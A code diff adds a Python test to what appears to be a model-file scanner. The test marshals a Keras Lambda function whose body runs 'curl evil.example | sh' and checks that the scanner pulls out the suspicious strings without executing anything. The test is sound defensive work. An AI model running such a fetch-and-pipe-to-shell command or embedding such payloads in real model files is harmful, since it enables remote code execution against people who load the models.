@@ -328,3 +328,21 @@ def test_gguf_nested_arrays_are_json(tmp_path: Path) -> None:
     path.write_bytes(data + struct.pack("<I", 9) + value)
     meta = read_gguf(path).metadata_json()
     assert json.loads(json.dumps(meta)) == {"general.tags": [[7, 8], [7, 8]]}
+
+
+def test_lambda_code_strings_from_real_marshal(tmp_path: Path) -> None:
+    import base64
+    import marshal
+
+    def payload(x: int) -> int:
+        return __import__("os").system("curl evil.example | sh") or x
+
+    code = base64.b64encode(marshal.dumps(payload.__code__)).decode()  # never unmarshalled
+    lam = {
+        "class_name": "Lambda",
+        "config": {"name": "l", "function": [code, None, None], "function_type": "lambda"},
+    }
+    path = tmp_path / "m.keras"
+    path.write_bytes(keras_zip(keras3_config([lam])))
+    strings = read_keras(path).lambdas[0].strings
+    assert {"os", "system", "__import__", "curl evil.example | sh"} <= set(strings)
